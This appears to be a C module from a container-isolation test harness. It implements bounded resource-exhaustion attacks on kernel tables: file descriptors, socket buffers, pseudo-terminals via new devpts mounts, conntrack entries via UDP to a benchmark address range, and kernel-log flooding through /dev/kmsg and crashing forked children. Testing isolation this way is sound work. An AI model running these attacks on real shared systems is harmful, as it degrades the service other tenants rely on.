/* Attacks on tables of the kernel: descriptors, sockets, tracked connections, terminals, its log. `most` bounds each. */
#define _GNU_SOURCE
#include "neighbour.h"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

/* Takes one thing after the other in one process after the other: limits of a process don't end it. */
static void collect(struct account *a, int (*take)(void)) {
  for (int mine = 0;;) {
    while (!over(a) && a->held < a->most && note(a, take())) {
      __sync_fetch_and_add(&a->held, 1);
      mine++;
    }
    if (over(a)) _exit(0);
    /* A process that is full keeps what it has, and a child that inherits nothing goes on; one that got nothing tries again. */
    pid_t pid = mine > 0 && a->held < a->most ? fork() : 1;
    if (pid == 0) {
      close_range(3, ~0u, 0);
      mine = 0;
    } else {
      if (pid < 0) note(a, -1);
      usleep(20000);
      if (pid > 0 && mine > 0)
        while (!over(a)) usleep(20000);
    }
  }
}

static int take_file(void) { return open("/dev/null", O_RDONLY); }
/* A guest that has all of its terminals mounts more of them, where it may. */
static int take_terminal(void) {
  static char multiplexer[32];
  int fd = *multiplexer ? open(multiplexer, O_RDWR | O_NOCTTY) : posix_openpt(O_RDWR | O_NOCTTY);
  if (fd >= 0 || errno == EMFILE) return fd;
  char place[] = "/tmp/pts-XXXXXX";
  if (!mkdtemp(place) || mount("devpts", place, "devpts", 0, "newinstance,ptmxmode=0666") < 0) return -1;
  snprintf(multiplexer, sizeof multiplexer, "%s/ptmx", place);
  return open(multiplexer, O_RDWR | O_NOCTTY);
}
/* A pair with its buffers full: the memory is the kernel's. */
static int take_sockets(void) {
  static char block[64 << 10];
  int pair[2];
  if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) < 0) return -1;
  while (write(pair[0], block, sizeof block) > 0 || write(pair[1], block, sizeof block) > 0) continue;
  return pair[0];
}

static void files(struct account *a, int slot) {
  (void)slot;
  collect(a, take_file);
}
static void terminals(struct account *a, int slot) {
  (void)slot;
  collect(a, take_terminal);
}
static void sockets(struct account *a, int slot) {
  (void)slot;
  collect(a, take_sockets);
}

/* One datagram each to a million addresses behind the gateway, where nothing answers (198.18.0.0/15 is for this, RFC 2544). */
static void connections(struct account *a, int slot) {
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (!note(a, fd)) return;
  for (uint32_t n = slot; !over(a); n += a->slots) {
    if (a->held >= a->most) {
      usleep(1000);
      continue;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(1024 + n % 60000)};
    to.sin_addr.s_addr = htonl(0xC6130000 | (1 + n / 60000)); /* 198.19.0.0/16 */
    if (note(a, sendto(fd, "x", 1, MSG_DONTWAIT, (void *)&to, sizeof to))) __sync_fetch_and_add(&a->held, 1);
    else usleep(100);
  }
}

/* Crashes, which the kernel writes a line about, and the log's own device. */
static void chatter(struct account *a, int slot) {
  (void)slot;
  static const char line[] = "<0>neighbour: a line of a container\n";
  volatile char *page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  int log = open("/dev/kmsg", O_WRONLY);
  if (log < 0) note(a, -1);
  while (!over(a)) {
    if (log >= 0) note(a, write(log, line, sizeof line - 1));
    pid_t pid = fork();
    if (pid == 0) {
      munmap((void *)page, 4096);
      *page = 1;
      _exit(0);
    }
    note(a, pid);
    if (pid > 0) waitpid(pid, 0, 0);
    /* The kernel tells of few crashes a second; without a pause this would be the attack `churn`. */
    usleep(1000);
  }
}

const struct kind OBJECTS[] = {{"fd", 0, files},      {"socket", 0, sockets},   {"conntrack", 2, connections},
                               {"pty", 1, terminals}, {"kernel-log", 2, chatter}, {0}};
